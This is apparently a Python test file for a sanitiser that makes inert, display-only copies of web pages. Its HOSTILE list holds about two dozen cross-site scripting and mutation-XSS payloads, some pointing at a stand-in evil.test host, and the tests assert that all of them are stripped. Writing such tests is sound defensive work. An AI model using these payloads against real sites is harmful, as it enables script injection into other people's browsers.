"""Copies that only show a page: what is out of them, what stays, and which files they ask for."""

from __future__ import annotations

import re

import pytest

from dowse.core.model import Request, Response
from dowse.extract.inert_pages import InertCopies
from dowse.page_tools import read
from dowse.parse.element_numbers import ElementNumbers

URL = "https://example.org/a/"
OUT = {"script", "iframe", "frame", "base", "meta", "object", "embed", "link", "template", "source", "animate", "math"}
ADDRESSES = {"action", "formaction", "poster", "srcset", "ping", "target", "name", "data", "xlink:href", "is"}


def answer(url: str, kind: str, body: bytes) -> Response:
    return Response(Request(url, 0, "example.org"), 200, {"content-type": kind}, body, 0.0, 0.0)


HOSTILE = [
    "<script>run()</script>",
    "<script src=//evil.test/x.js></script>",
    "<body onload=run()>",
    "<img src=x onerror=run()>",
    "<a href=javascript:run()>x</a>",
    "<a href='java&#10;script:run()'>x</a>",
    "<a href=data:text/html,run()>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<base href=https://evil.test/ target=_top><a href=x>x</a>",
    "<form action=https://evil.test/ target=_top><input name=parent><button formaction=javascript:run()>x</button>",
    "<iframe srcdoc='<script>run()</script>'></iframe><iframe src=javascript:run()></iframe>",
    "<object data=javascript:run()></object><embed src=javascript:run()>",
    "<svg><script>run()</script><animate attributeName=href to=javascript:run() /></svg>",
    "<svg><a xlink:href=javascript:run()><text>x</text></a><foreignObject><iframe src=x></foreignObject>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=run()&gt;'></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=run()>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=run()>'></svg>",
    "<template><script>run()</script></template><div><template shadowrootmode=open><script>run()</script></template>",
    "<xmp><script>run()</script></xmp><noembed><img onerror=run()></noembed><plaintext><script>run()</script>",
    "<link rel=import href=//evil.test/><link rel=preload href=//evil.test/ as=script>",
    "<video src=//evil.test/ autoplay onplay=run()><source src=//evil.test/v></video>",
    "<style>@import '//evil.test/x.css'; p{background:url(//evil.test/y)}</style>",
    "<p style=\"background:url('//evil.test/z')\" ping=//evil.test/ is=x-y>",
    "<!-- <script>run()</script> --><!--[if IE]><script>run()</script><![endif]-->",
    "<frameset onload=run()><frame src=javascript:run()></frameset>",
    "<svg><link rel=stylesheet href=evil.css></link></svg>",
]
EVIL = answer(f"{URL}evil.css", "text/css", b"p{}<img src=x onerror=run()><script>run()</script>")
"""A style sheet that would be markup if it were not among styles."""


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_runs_or_leads_away_is_left(markup: str) -> None:
    copy = InertCopies({EVIL.request.url: EVIL}).of(read(f"<!doctype html><title>t</title>{markup}", URL))
    elements = read(copy, URL).tree.select("*")
    assert OUT.isdisjoint(element.tag for element in elements)
    attributes = [(name, value) for element in elements for name, value in element.attrs.items()]
    assert ADDRESSES.isdisjoint(name for name, _ in attributes)
    assert [name for name, _ in attributes if name.startswith("on")] == []
    assert {value for name, value in attributes if name in ("src", "href")} <= {"#"}
    assert not re.search(r"url\((?!\"\"|&quot;&quot;)", copy)
    assert "javascript:" not in copy
    # What is written is the same when it is read again, so nothing is hidden in how it is written.
    again = InertCopies({}).of(read(copy, URL))
    assert InertCopies({}).of(read(again, URL)) == again


def test_links_keep_their_looks_and_say_where_they_lead() -> None:
    copy = InertCopies({}).of(read('<a class=x id=y href="../b?c#d" onclick=run()>go</a>', URL))
    assert '<a class="x" id="y" data-dowse="3" href="#" data-dowse-url="https://example.org/b?c">go</a>' in copy


def test_every_element_of_the_copy_has_the_number_that_it_has_on_the_page() -> None:
    html = "<script>x</script><ul><li><a href=/1>1</a><li><noscript><a href=/2>2</a></noscript></ul><iframe src=/3>"
    page = read(html, URL)
    numbers = ElementNumbers(page)
    copy = InertCopies({}).of(read(html, URL))
    for anchor in page.anchors:
        number = numbers.of([anchor.element])[0]
        assert numbers.element(number) is anchor.element
        assert re.search(rf'<a[^>]* data-dowse="{number}"[^>]* data-dowse-url="{anchor.url}"', copy)


def test_a_page_that_a_browser_sends_has_its_own_numbers() -> None:
    page = read("<ul data-dowse=7><li data-dowse=9><a data-dowse=12 href=/x>x</a><b data-dowse=no>b</b></ul>", URL)
    numbers = ElementNumbers(page, is_stamped=True)
    assert numbers.of(page.tree.select("*")) == [7, 9, 12]
    assert numbers.element(12) is page.anchors[0].element
    assert numbers.element(0) is None


def test_files_are_part_of_the_copy_and_missing_ones_are_named() -> None:
    html = "<link rel=stylesheet href=s.css media=print><img src=i.png><img data-src=late.png src=data:image/gif,x>"
    first = InertCopies({})
    first.of(read(html, URL))
    assert first.lacking == [f"{URL}s.css", f"{URL}i.png", f"{URL}late.png"]
    sheet = b"@import 'more.css'; p { background: url(../b.png); content: '</style><script>run()</script>' }"
    second = InertCopies(
        {
            f"{URL}s.css": answer(f"{URL}s.css", "text/css", sheet),
            f"{URL}i.png": answer(f"{URL}i.png", "image/png", b"\x89PNG\r\n\x1a\n"),
            f"{URL}late.png": answer(f"{URL}late.png", "text/html", b"<script>run()</script>"),
        }
    )
    copy = second.of(read(html, URL))
    assert second.lacking == [f"{URL}more.css", "https://example.org/b.png"]
    assert '<style media="print">' in copy
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in copy
    assert copy.count("</style>") == 1
    assert not read(copy, URL).tree.select("script")


def test_a_large_file_that_is_named_often_does_not_fill_the_memory() -> None:
    image = f"{URL}large.png"
    answers = {image: answer(image, "image/png", b"\x89PNG\r\n\x1a\n" + b"x" * 1_000_000)}
    copy = InertCopies(answers).of(read("<title>t</title>" + f"<img src={image}>" * 100, URL))
    assert copy.count("base64") == 11
    assert len(copy) < 30_000_000


def test_a_style_sheet_that_imports_itself_often_comes_to_an_end() -> None:
    sheet = f"{URL}self.css"
    answers = {sheet: answer(sheet, "text/css", f"@import '{sheet}';".encode() * 2_000)}
    copy = InertCopies(answers).of(read(f"<title>t</title><link rel=stylesheet href={sheet}>", URL))
    assert len(copy) < 40_000_000
